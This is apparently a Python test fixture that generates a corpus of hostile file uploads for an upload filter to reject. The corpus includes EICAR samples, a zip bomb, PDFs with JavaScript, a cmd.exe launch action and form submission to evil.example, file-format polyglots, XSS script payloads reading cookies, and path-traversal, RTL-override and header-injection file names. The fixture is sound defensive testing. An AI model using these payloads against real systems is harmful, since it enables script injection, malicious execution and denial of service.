"""The upload attack corpus, generated here (no hostile file is stored in the repository):
(identifier, file name, content). Every item must be refused."""

import io
import zipfile

from tests import clamav, factories

PDF = factories.MINIMAL_PDF


def zipped(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def pdf_with(catalog_entry: bytes) -> bytes:
    return PDF.replace(b"/Type /Catalog", b"/Type /Catalog " + catalog_entry)


PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 40
GIF_JS = b"GIF89a/*\x01\x00\x01\x00\x00\xff\x00,*/=1;alert(document.domain);//"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(document.domain)</script></svg>"
)


def corpus() -> list[tuple[str, str, bytes]]:
    bomb = zipped(
        {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"0" * (120 * 1024 * 1024)}
    )
    return [
        # Known malware (the EICAR test file): alone, zipped, inside an accepted type.
        ("eicar", "eicar.com", clamav.EICAR),
        ("eicar-named-pdf", "eicar.pdf", clamav.EICAR),
        ("eicar-zip", "eicar.zip", zipped({"eicar.com": clamav.EICAR})),
        ("eicar-zip-as-docx", "eicar.docx", zipped({"eicar.com": clamav.EICAR})),
        (
            "eicar-in-docx",
            "rapport.docx",
            zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": clamav.EICAR}),
        ),
        ("eicar-in-pdf", "notice.pdf", PDF.replace(b"trailer", b"%" + clamav.EICAR + b"\ntrailer")),
        ("zip-bomb", "bombe.docx", bomb),
        # Active PDFs.
        ("pdf-javascript", "js.pdf", pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
        ("pdf-openaction", "open.pdf", pdf_with(b"/OpenAction [3 0 R /Fit]")),
        ("pdf-launch", "launch.pdf", pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
        ("pdf-embeddedfile", "embedded.pdf", pdf_with(b"/Names << /EF << /F 9 0 R >> /Type /EmbeddedFile >>")),
        ("pdf-embeddedfiles", "joint.pdf", pdf_with(b"/Names << /EmbeddedFiles 9 0 R >>")),
        ("pdf-additional-actions", "aa.pdf", pdf_with(b"/AA << /O << /S /URI /URI (https://evil.example/) >> >>")),
        ("pdf-submitform", "form.pdf", pdf_with(b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>")),
        # Polyglots.
        ("pdf-zip-polyglot", "poly.pdf", PDF + zipped({"payload.html": HTML})),
        ("png-zip-polyglot", "poly.png", PNG + zipped({"payload.html": HTML})),
        ("pdf-html-polyglot", "page.pdf", PDF.replace(b"%PDF-1.4\n", b"%PDF-1.4\n%" + HTML + b"\n")),
        ("gif-js-polyglot", "image.gif", GIF_JS),
        ("gif-js-named-png", "image.png", GIF_JS),
        # Magic bytes that do not match the extension.
        ("png-named-pdf", "document.pdf", PNG),
        ("pdf-named-png", "photo.png", PDF),
        ("exe-named-pdf", "setup.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200),
        ("elf-named-docx", "rapport.docx", b"\x7fELF\x02\x01\x01" + b"\x00" * 200),
        # Pages and images with script.
        ("html", "page.html", HTML),
        ("html-named-pdf", "page.pdf", HTML),
        ("svg", "dessin.svg", SVG),
        ("svg-named-png", "dessin.png", SVG),
        # Hostile names on a hostile content.
        ("traversal-name", "../../../../var/www/index.html", HTML),
        ("rtl-override-name", "facture\u202efdp.exe", b"MZ" + b"\x00" * 100),
        ("control-char-name", "a\x00b\r\nContent-Type: text/html.html", HTML),
        ("long-name", "x" * 5000 + ".svg", SVG),
        ("empty", "vide.pdf", b""),
    ]  # fmt: skip
